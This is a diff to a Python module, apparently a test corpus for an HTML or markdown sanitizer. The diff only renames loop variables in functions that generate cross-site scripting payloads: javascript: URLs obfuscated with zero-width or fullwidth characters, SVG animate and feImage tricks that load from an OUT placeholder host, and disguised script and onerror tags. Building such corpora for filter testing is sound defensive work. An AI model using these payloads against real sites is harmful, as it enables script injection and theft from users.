@@ -99,7 +99,7 @@ def pictures() -> list[str]:
         "<svg><feImage href={o}/f.png></svg>",
         "<svg><a><animate attributeName=href values=javascript:{r} /></a></svg>",
     )
-    return [each.format(r=RUN, o=OUT) for each in inner]
+    return [text.format(r=RUN, o=OUT) for text in inner]
 
 
 def addresses() -> list[str]:
@@ -130,10 +130,10 @@ def addresses() -> list[str]:
         "javascript\u200b:alert(1)",
         "ｊavascript:alert(1)",
     ]
-    html = [f'<a href="{each}">x</a>' for each in bad]
-    marked = [f"[x]({each})" for each in bad] + [f"[x](<{each}>)" for each in bad[:8]]
-    told = [f"<{each}>" for each in bad[:6]] + [f"![x]({each})" for each in bad[:8]]
-    return html + marked + told
+    html = [f'<a href="{text}">x</a>' for text in bad]
+    marked = [f"[x]({text})" for text in bad] + [f"[x](<{text}>)" for text in bad[:8]]
+    result = [f"<{text}>" for text in bad[:6]] + [f"![x]({text})" for text in bad[:8]]
+    return html + marked + result
 
 
 def markdown() -> list[str]:
@@ -205,7 +205,7 @@ def mutations() -> list[str]:
         "<table background=x>{}</table>",
         "<frameset>{}</frameset>",
     )
-    return [each.format(bait) for each in outer]
+    return [text.format(bait) for text in outer]
 
 
 def templates() -> list[str]:
@@ -286,7 +286,7 @@ def hidden() -> list[str]:
         "<ſcript>alert(1)</ſcript>",
         "<img src=x oneﬀrror=alert(1)>",
     ]
-    return [shape.format(each) for shape, each in product(shapes, unseen)] + odd
+    return [shape.format(item) for shape, item in product(shapes, unseen)] + odd
 
 
 FAMILIES = {
@@ -304,11 +304,11 @@ FAMILIES = {
 
 def corpus() -> list[tuple[str, str]]:
     """Every payload once, with the family it is of."""
-    told: dict[str, str] = {}
+    fields: dict[str, str] = {}
     for name, make in FAMILIES.items():
-        for each in make():
-            told.setdefault(each, name)
-    return [(name, each) for each, name in told.items()]
+        for item in make():
+            fields.setdefault(item, name)
+    return [(name, element) for element, name in fields.items()]
 
 
 CORPUS_WORDS = [payload for _, payload in corpus()]
